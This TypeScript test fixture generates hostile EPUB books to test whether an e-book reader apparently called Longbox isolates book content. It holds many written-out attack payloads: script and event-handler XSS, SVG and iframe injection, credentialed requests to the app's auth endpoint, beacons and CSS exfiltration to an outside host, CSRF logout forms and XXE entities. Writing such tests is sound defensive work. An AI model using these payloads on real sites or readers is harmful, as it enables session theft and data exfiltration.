import type { PlannedBook } from "./epubs.ts";

/** Where a hostile book tries to reach. */
export interface Targets {
  /** The address of a server that listens, such as `http://127.0.0.1:4000`. */
  readonly away: string;
  /** The address of Longbox itself. */
  readonly home: string;
}

type Attempt = Pick<PlannedBook["chapters"][number], "body" | "head" | "document" | "file"> & {
  readonly files?: PlannedBook["files"];
  readonly metadata?: string;
};

/** What a script of a book would do, if one ran: each of it would be noticed. */
function script({ away, home }: Targets): string {
  return `try{document.title='RAN';for(const w of [window,parent,top])try{w.ranHostile=true;w.postMessage({hostile:true},'*')}catch{}
fetch('${away}/script').catch(()=>{});new Image().src='${away}/image-of-script';fetch('${home}/api/auth/me',{credentials:'include'}).catch(()=>{});
navigator.sendBeacon('${away}/beacon');alert('hostile');document.cookie='hostile=1';localStorage.setItem('hostile','1')}catch{}`;
}

const quoted = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
const data = (text: string, type = "text/html") => `data:${type};base64,${Buffer.from(text).toString("base64")}`;
const svg = (inside: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" ${attributes}>${inside}</svg>`;

/** One book for each way to act. */
export function hostileBooks(targets: Targets): PlannedBook[] {
  return Object.entries(attempts(targets)).map(([title, { files, metadata, ...chapter }]) => ({
    title,
    author: "Mallory Grim",
    chapters: [{ title: "One", ...chapter, body: `<p id="shown">Text of ${title}</p>${chapter.body}` }],
    ...(files && { files }),
    ...(metadata && { metadata }),
  }));
}

function attempts(targets: Targets): Record<string, Attempt> {
  return {
    ...scripts(targets),
    ...handlers(targets),
    ...drawings(targets),
    ...documents(targets),
    ...loads(targets),
    ...styles(targets),
    ...navigations(targets),
    ...packages(targets),
  };
}

function scripts(targets: Targets): Record<string, Attempt> {
  const code = script(targets);
  return {
    "script element": { body: `<script>//<![CDATA[\n${code}\n//]]></script>` },
    "script file of the book": { body: `<script src="evil.js"></script>`, files: { "evil.js": code } },
    "script of another host": { body: `<script src="${targets.away}/evil.js"></script>` },
    "module script": {
      body: `<script type="module">//<![CDATA[\nimport('${targets.away}/module.js');${code}\n//]]></script>`,
    },
    "script of the server itself": { body: `<script src="${targets.home}/api/book-reader/frame"></script>` },
    "script in a data address": { body: `<script src="${data(code, "text/javascript")}"></script>` },
    "script in the head": { head: `<script>//<![CDATA[\n${code}\n//]]></script>`, body: "" },
    "script in a document that is no XML": {
      body: "",
      document: `<html><head><title>x</title></head><body><p id=shown>Text of script in a document that is no XML<br><script>${code}</script><img src=x onerror="${quoted(code)}"></body>`,
    },
  };
}

function handlers(targets: Targets): Record<string, Attempt> {
  const code = quoted(script(targets));
  return {
    "handler of a picture that fails": { body: `<img src="nothing.png" alt="" onerror="${code}"/>` },
    "handler of the body": {
      body: "",
      document: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body onload="${code}" onpageshow="${code}" onfocus="${code}"><p id="shown">Text of handler of the body</p></body></html>`,
    },
    "handler of an animation": {
      body: `<style>@keyframes k{to{opacity:.5}}#k{animation:k .01s}</style><p id="k" onanimationend="${code}" onanimationstart="${code}">k</p>`,
    },
    "handler of details and focus": {
      body: `<details open="open" ontoggle="${code}"><summary>s</summary>t</details><input autofocus="autofocus" onfocus="${code}"/>`,
    },
    "handler of media": {
      body: `<video src="nothing.mp4" onerror="${code}" autoplay="autoplay"></video><audio src="nothing.mp3" onerror="${code}"></audio>`,
    },
    "handler of a click": { body: `<p id="click" onclick="${code}">Click</p>` },
  };
}

function drawings(targets: Targets): Record<string, Attempt> {
  const code = script(targets);
  return {
    "script in a drawing": {
      body: svg(
        `<script>//<![CDATA[\n${code}\n//]]></script><rect width="5" height="5" onload="${quoted(code)}"/>`,
        `onload="${quoted(code)}"`,
      ),
    },
    "drawing as a section": {
      body: "",
      file: "evil.svg",
      document: svg(
        `<script>//<![CDATA[\n${code}\n//]]></script><text id="shown" y="5" font-size="1">Text of drawing as a section</text><image xlink:href="${targets.away}/picture.png" width="5" height="5"/><foreignObject width="5" height="5"><body xmlns="http://www.w3.org/1999/xhtml"><script>//<![CDATA[\n${code}\n//]]></script><img src="${targets.away}/inner.png" alt=""/></body></foreignObject>`,
        `onload="${quoted(code)}"`,
      ),
    },
    "drawing as a picture": {
      body: `<img src="evil.svg" alt=""/>`,
      files: {
        "evil.svg": svg(
          `<script>${code.replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</script><image href="${targets.away}/a.png" width="5" height="5"/>`,
        ),
      },
    },
    "drawing that uses others": {
      body: svg(
        `<use href="${targets.away}/use.svg#a"/><image href="${targets.away}/image.png" width="5" height="5"/><feImage href="${targets.away}/fe.png"/><a xlink:href="javascript:${quoted(code)}"><text id="click" y="5" font-size="2">Click</text></a>`,
      ),
    },
    "animation that sets a link": {
      body: svg(
        `<a id="a"><animate attributeName="href" values="javascript:${quoted(code)}" begin="0s" dur="1s" fill="freeze"/><set attributeName="onclick" to="${quoted(code)}"/><text id="click" y="5" font-size="2">Click</text></a>`,
      ),
    },
  };
}

function documents(targets: Targets): Record<string, Attempt> {
  const page = `<script>${script(targets)}</script><img src="${targets.away}/of-frame.png">`;
  return {
    "frame of another host": { body: `<iframe src="${targets.away}/frame"></iframe>` },
    "frame with a document of its own": {
      body: `<iframe srcdoc="${quoted(page)}"></iframe><iframe src="${data(page)}"></iframe>`,
    },
    "frame of the server itself": {
      body: `<iframe src="${targets.home}/library"></iframe><iframe src="${targets.home}/api/auth/me"></iframe>`,
    },
    "frame of another section": { body: `<iframe src="inner.html"></iframe>`, files: { "inner.html": page } },
    "object and embed": {
      body: `<object data="${targets.away}/object"></object><embed src="${targets.away}/embed"/><object data="inner.html" type="text/html"></object><object data="${data(page)}"></object>`,
      files: { "inner.html": page },
    },
  };
}

function loads({ away, home }: Targets): Record<string, Attempt> {
  return {
    "pictures of another host": {
      body: `<img src="${away}/img.png" alt=""/><img srcset="${away}/set.png 1x" alt=""/><picture><source srcset="${away}/source.png"/><img alt="" src="${away}/picture.png"/></picture><input type="image" src="${away}/input.png" alt=""/><table background="${away}/table.png"><tr><td>t</td></tr></table>`,
    },
    "pictures of the server itself": {
      body: `<img src="${home}/api/auth/me" alt=""/><img src="/api/auth/me" alt=""/><img src="//${home.slice(5)}/api/settings" alt=""/>`,
    },
    "media of another host": {
      body: `<video src="${away}/video.mp4" poster="${away}/poster.png" autoplay="autoplay" preload="auto"><track src="${away}/track.vtt" default="default"/></video><audio src="${away}/audio.mp3" preload="auto"/>`,
    },
    "links to resources": {
      head: [
        "preconnect",
        "dns-prefetch",
        "prefetch",
        "preload",
        "modulepreload",
        "prerender",
        "icon",
        "manifest",
        "stylesheet",
        "search",
      ]
        .map((rel) => `<link rel="${rel}" href="${away}/${rel}" as="image"/>`)
        .join(""),
      body: "",
    },
    "base address": {
      head: `<base href="${away}/" target="_top"/>`,
      body: `<img src="relative.png" alt=""/><a id="click" href="relative">Click</a>`,
    },
  };
}

function styles({ away }: Targets): Record<string, Attempt> {
  const rules = `@import "${away}/import.css"; @import url(${away}/import-url.css); @font-face { font-family: Evil; src: url("${away}/font.woff2"); } body { background: url(${away}/background.png); font-family: Evil; } p::before { content: url('${away}/content.png'); } p { cursor: url(${away}/cursor.cur), auto; list-style-image: image-set("${away}/set.png" 1x); mask-image: u\\72l(${away}/escaped.png); border-image: url(${away}/border.png) 1; }`;
  return {
    "style element": { head: `<style>${rules}</style>`, body: `<p>styled</p>` },
    "style sheet of the book": {
      head: `<link rel="stylesheet" href="evil.css"/>`,
      body: `<p>styled</p>`,
      files: { "evil.css": rules },
    },
    "style attribute": {
      body: `<p style="background: url(${away}/attribute.png); filter: url(${away}/filter.svg#f)">styled</p>`,
    },
    "style that reads what is typed": {
      head: `<style>input[value^="s"] { background: url(${away}/typed.png); } p:target { background: url(${away}/target.png); }</style>`,
      body: `<input value="secret"/>`,
    },
  };
}

function navigations(targets: Targets): Record<string, Attempt> {
  const { away, home } = targets;
  const code = quoted(script(targets));
  return {
    refresh: {
      head: `<meta http-equiv="refresh" content="0; url=${away}/refresh"/><meta http-equiv="Set-Cookie" content="hostile=1"/><meta http-equiv="Content-Security-Policy" content="default-src *"/>`,
      body: "",
    },
    "link with a script": { body: `<a id="click" href="javascript:${code}">Click</a>` },
    "link to the whole window": { body: `<a id="click" href="${data("<script>1</script>")}" target="_top">Click</a>` },
    "link to another window": {
      body: `<a id="click" target="_blank" rel="opener" href="/api/auth/logout" ping="${away}/ping">Click</a>`,
    },
    "link with a download": {
      body: `<a id="click" download="x.exe" href="${data("x", "application/octet-stream")}">Click</a>`,
    },
    "form that sends": {
      body: `<form action="${away}/form" method="post" target="_top"><input name="a" value="b"/><button id="click" formaction="${away}/formaction">Click</button></form>`,
    },
    "form to the server itself": {
      body: `<form action="${home}/api/auth/logout" method="post"><button id="click">Click</button></form>`,
    },
    "area of a map": {
      body: `<img usemap="#m" alt="" src="dot.png" width="9" height="9"/><map name="m"><area id="click" shape="default" href="${data("<p>x</p>")}" target="_top" alt="a"/></map>`,
    },
    "link by a key": {
      body: `<a accesskey="x" autofocus="autofocus" id="click" href="javascript:${code}" target="_parent">Click</a>`,
    },
  };
}

function packages({ away }: Targets): Record<string, Attempt> {
  return {
    entities: {
      body: "",
      document: `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY far SYSTEM "${away}/entity"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p id="shown">Text of entities &b; &far;</p></body></html>`,
    },
    "style sheet by an instruction": {
      body: "",
      document: `<?xml version="1.0"?><?xml-stylesheet href="${away}/instruction.css"?><?xml-stylesheet type="text/xsl" href="${away}/instruction.xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p id="shown">Text of style sheet by an instruction</p></body></html>`,
    },
  };
}
